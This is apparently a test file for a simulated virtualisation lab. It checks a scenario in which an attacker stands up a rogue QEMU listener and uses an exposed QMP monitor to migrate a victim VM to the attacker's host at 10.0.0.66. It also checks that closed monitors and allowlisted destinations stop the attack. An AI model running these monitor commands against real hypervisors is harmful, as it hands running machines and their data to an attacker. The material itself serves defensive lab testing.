/** A hypervisor of the attacker's own, and the monitors that send guests to it. */
import { describe, expect, it } from 'vitest'
import { milliseconds, seconds } from '../../../../core/base/units.js'
import type { Session } from '../../../../core/session/session.js'
import { bootedSession } from '../../../support/lab-session.js'

function say(session: Session, ...lines: readonly string[]): void {
  for (const text of lines) {
    session.do({ kind: 'type', console: 'attacker', text: `${text}\r` })
    session.runFor(milliseconds(20))
  }
}

function stolen(): Session {
  const session = bootedSession({ seed: 'stolen' })
  session.do({ kind: 'place-attacker', position: 'access' })
  say(session, 'qemu -incoming tcp:0:49152', 'qmp-shell host-a migrate uri=tcp:10.0.0.66:49152')
  session.runWhile(({ isMigrating }) => isMigrating, seconds(20))
  return session
}

describe('a hypervisor of the attacker’s own', () => {
  it('takes a guest whose host’s monitor was told to send it there; the guest goes on answering its clients', () => {
    const session = stolen()
    expect(session.world.liveVm()).toMatchObject({ hostName: 'mallory', state: 'running' })
    expect(session.world.strayVm).toBe(session.world.liveVm())
    expect(session.world.allVms()).toEqual([])
    const before = session.trace.rows('probe').length
    session.runFor(milliseconds(200))
    const answers = session.trace.rows('probe').slice(before)
    expect(answers.length).toBeGreaterThan(50)
    expect(answers.filter(({ lost }) => lost === 0).length).toBeGreaterThan(answers.length - 3)
  })

  it('takes no orders of the operator; a guest that ends with it is booted on a host of the lab again', () => {
    const session = stolen()
    expect(() => session.do({ kind: 'migrate' })).toThrow(/web is on mallory, which takes no orders/)
    say(session, 'kill 1')
    expect(session.world.liveVm()).toMatchObject({ hostName: 'mallory', state: 'shutdown' })
    session.do({ kind: 'boot' })
    expect(session.world.liveVm()).toMatchObject({ hostName: 'host-a', state: 'running' })
    expect(session.world.strayVm).toBeUndefined()
  })

  it('is kept and copied with the session', () => {
    const session = stolen()
    const copy = session.fork()
    for (const each of [session, copy]) each.runFor(milliseconds(100))
    expect(copy.trace.hash()).toBe(session.trace.hash())
  })

  it('gets nothing where monitors are closed, or destinations are listed', () => {
    for (const defences of [{ closedMonitors: true }, { listedDestinations: true }]) {
      const session = bootedSession({ seed: 'stolen' })
      session.do({ kind: 'configure-hosts', defences })
      session.do({ kind: 'place-attacker', position: 'access' })
      say(session, 'qemu -incoming tcp:0:49152', 'qmp-shell host-a migrate uri=tcp:10.0.0.66:49152')
      session.runFor(seconds(1))
      expect(session.world.liveVm()).toMatchObject({ hostName: 'host-a', state: 'running' })
      expect(session.trace.rows('migration-start')).toEqual([])
      session.do({ kind: 'migrate' })
      session.runWhile(({ isMigrating }) => isMigrating, seconds(20))
      expect(session.world.liveVm()?.hostName).toBe('host-b')
    }
  })

  it('says how its commands are written', () => {
    const session = bootedSession({ seed: 'words' })
    session.do({ kind: 'place-attacker', position: 'access' })
    say(session, 'qmp-shell host-a', 'qemu', 'qemu -incoming tcp:0:1', 'migrate-loop host-a')
    const text = session.world.consoles.attacker.from(0)
    expect(text).toContain('qmp-shell HOST COMMAND')
    expect(text).toContain('qemu -incoming tcp:0:49152')
    expect(text).toContain('send guests to TCP port 49152')
    expect(text).toContain('name two stations')
  })
})
